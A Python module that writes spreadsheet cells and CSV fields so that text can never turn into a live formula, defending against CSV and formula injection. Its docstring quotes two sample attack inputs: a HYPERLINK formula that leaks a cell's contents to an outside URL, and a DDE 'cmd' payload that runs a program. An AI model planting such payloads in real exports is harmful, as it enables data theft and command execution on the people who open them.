"""The one way weerbaar writes a value into a spreadsheet cell: text always stays text.

Every workbook the project writes (the scoring template and a cycle's scoring workbook in
:mod:`weerbaar.io.excel_template`, the Excel report in :mod:`weerbaar.reports.xlsx_writer`) writes
its cells with :func:`put` (or :func:`write_cell`), and every CSV file with :func:`csv_cell` or
:func:`csv_bytes`, so a title ``=HYPERLINK("http://…?x="&A1,"klik")`` or an owner
``=cmd|' /C calc'!A0`` can never become a live formula (CSV or formula injection):

- **text** is written as a string cell: openpyxl turns a string starting with ``=`` into a formula
  (and ``#N/A`` into an error value) when it is assigned, so the cell's type is forced back to
  ``s`` afterwards. Text starting with ``= + - @``, a tab or a carriage return also gets Excel's
  quote prefix, so editing the cell in Excel keeps it text. Characters XML cannot carry (a
  carriage return, control characters) are stored with OOXML's ``_xHHHH_`` escapes, which Excel
  shows as the character itself (:func:`escape_text`, :func:`unescape_text`);
- **numbers** (``int``, ``float``, ``Decimal``, numpy's numbers) as numbers and ``bool`` as a
  boolean; a number that is not finite (``nan``, ``inf``) has no cell form and is written as its
  text;
- **dates and times** (``date``, ``datetime``, ``time``) as dates, with a date format (Excel
  knows no time zones: an aware time is written in UTC);
- ``None`` leaves the cell empty. Anything else is a programming error (``TypeError``).

**CSV** files have no cell types: a spreadsheet opening one evaluates any field that starts with
``= + - @``, a tab or a carriage return. Following the OWASP guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), :func:`csv_cell` puts a single quote
(``'``) before such a text, and :func:`csv_bytes` quotes every text field (double quotes inside it
doubled), so a separator in a field cannot start a new cell. Numbers are written as numbers.
"""

from __future__ import annotations

import csv
import io
import math
import numbers
import re
from collections.abc import Iterable
from datetime import UTC, date, datetime, time
from decimal import Decimal

from openpyxl.cell.cell import Cell, MergedCell
from openpyxl.worksheet.worksheet import Worksheet

from weerbaar.errors import InvalidInput

CellValue = str | int | float | Decimal | bool | date | datetime | time | None

MAX_TEXT = 32_767  # Excel's limit on the characters of one cell
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters a spreadsheet may read as the start of a formula (OWASP's list)."""

_LITERAL_ESCAPE = re.compile(r"_(x[0-9A-Fa-f]{4}_)")
_UNSAFE_CHAR = re.compile(r"[\x00-\x08\x0b-\x0d\x0e-\x1f]")
_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
_DATE_FORMAT = "yyyy-mm-dd"
_DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
_TIME_FORMAT = "hh:mm:ss"


def escape_text(text: str) -> str:
    """Escape text for a cell the way Excel does (``\\r`` -> ``_x000D_``, ``_x`` literals kept)."""
    if "_x" in text:
        text = _LITERAL_ESCAPE.sub(r"_x005F_\1", text)
    return _UNSAFE_CHAR.sub(lambda m: f"_x{ord(m[0]):04X}_", text)


def unescape_text(text: str) -> str:
    """Undo :func:`escape_text` (and Excel's own escapes) on text read from a cell."""
    if "_x" not in text:
        return text
    return _ESCAPE.sub(lambda m: chr(int(m[1], 16)), text)


def write_cell(cell: Cell | MergedCell, value: CellValue) -> Cell:
    """Write ``value`` into ``cell``: text as a string cell (never a formula or an error value),
    numbers as numbers, dates as dates (see the module's description). Returns the cell."""
    if isinstance(cell, MergedCell):
        raise TypeError(f"cell {cell.coordinate} is part of a merged range")
    if value is None or isinstance(value, bool):
        cell.value = value
    elif isinstance(value, str):
        _write_text(cell, value)
    elif isinstance(value, numbers.Real | Decimal):  # numpy's numbers too
        if math.isfinite(value):
            cell.value = value
            cell.data_type = "n"
        else:
            _write_text(cell, str(value))
    elif isinstance(value, datetime | date | time):
        if isinstance(value, datetime | time) and value.tzinfo is not None:
            value = _naive_utc(value)
        cell.value = value
        cell.number_format = (_DATETIME_FORMAT if isinstance(value, datetime)
                              else _DATE_FORMAT if isinstance(value, date) else _TIME_FORMAT)
    else:
        raise TypeError(f"cannot write a {type(value).__name__} into a cell")
    return cell


def _naive_utc(value: datetime | time) -> datetime | time:
    """Excel has no time zones: an aware time is written in UTC, without its zone."""
    if isinstance(value, datetime):
        return value.astimezone(UTC).replace(tzinfo=None)
    offset = value.utcoffset()
    if offset is None:
        return value.replace(tzinfo=None)
    moment = datetime.combine(date(2000, 1, 1), value.replace(tzinfo=None)) - offset
    return moment.time()


def _write_text(cell: Cell, value: str) -> None:
    text = escape_text(value)
    if len(text) > MAX_TEXT:
        raise InvalidInput(f"text of {len(text):,} characters does not fit in a cell",
                           source=f"{cell.parent.title}!{cell.coordinate}",
                           expected=f"at most {MAX_TEXT:,} characters")
    cell.value = text
    cell.data_type = "s"  # openpyxl would store "=..." as a formula and "#N/A" as an error
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True


def put(ws: Worksheet, row: int, column: int, value: CellValue) -> Cell:
    """Write one value into ``ws`` at ``row``, ``column`` (1-based) with :func:`write_cell`."""
    return write_cell(ws.cell(row=row, column=column), value)


def put_row(ws: Worksheet, row: int, values: Iterable[CellValue], *, start: int = 1) -> None:
    """Write ``values`` into one row, from column ``start`` on."""
    for column, value in enumerate(values, start=start):
        put(ws, row, column, value)


def header_footer_text(text: str) -> str:
    """Text for a printed header or footer: ``&`` starts a code there (``&P`` is the page
    number), so a literal ampersand is doubled; control characters are left out."""
    return _UNSAFE_CHAR.sub("", text.replace("\n", " ")).replace("&", "&&")


# -- CSV --------------------------------------------------------------------------------------


def csv_cell(value: CellValue) -> str | int | float | Decimal:
    """A value as a CSV field: text starting with ``= + - @``, a tab or a carriage return gets a
    leading ``'`` (OWASP), numbers stay numbers, dates are ISO text, ``None`` is empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, numbers.Real | Decimal) and math.isfinite(value):
        return value
    if isinstance(value, datetime | date | time):
        return value.isoformat()
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_bytes(rows: Iterable[Iterable[CellValue]], *, delimiter: str = ",") -> bytes:
    """Rows as a UTF-8 CSV file (with a byte order mark, so Excel reads the encoding): every
    field through :func:`csv_cell`, every text field quoted."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, quoting=csv.QUOTE_NONNUMERIC,
                        lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


__all__ = ["FORMULA_STARTS", "MAX_TEXT", "CellValue", "csv_bytes", "csv_cell", "escape_text",
           "header_footer_text", "put", "put_row", "unescape_text", "write_cell"]
